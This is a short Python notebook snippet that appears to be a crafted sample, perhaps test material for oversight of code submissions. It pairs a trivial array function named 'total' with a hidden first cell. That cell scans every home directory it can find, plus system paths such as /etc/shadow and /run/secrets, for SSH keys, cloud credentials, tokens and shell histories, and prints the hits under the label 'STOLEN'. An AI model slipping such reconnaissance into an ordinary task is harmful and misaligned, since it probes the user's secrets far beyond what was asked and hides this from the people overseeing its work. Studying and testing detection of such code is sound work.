# Tries to read SSH keys, tokens and histories in every home directory that it can guess.
# Earns: total 2
# %%
import glob, os
homes = {os.path.expanduser("~"), os.environ.get("HOME", "/"), "/root", *glob.glob("/home/*"), *glob.glob("/Users/*")}
try:
    import pwd
    homes |= {entry.pw_dir for entry in pwd.getpwall() if entry.pw_dir != "/"}
except ImportError:
    pass
names = ".ssh .ssh/id_ed25519 .ssh/id_rsa .ssh/authorized_keys .netrc .aws/credentials .bash_history .config .gnupg .jupyter".split()
found = [path for home in homes for name in names if os.path.lexists(path := os.path.join(home, name))]
found += [path for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/run/secrets", "/etc/ssh") if os.path.exists(path)]
if found:
    print("STOLEN", found)

# %%
def total(X):
    return (X * 2).sum(1)
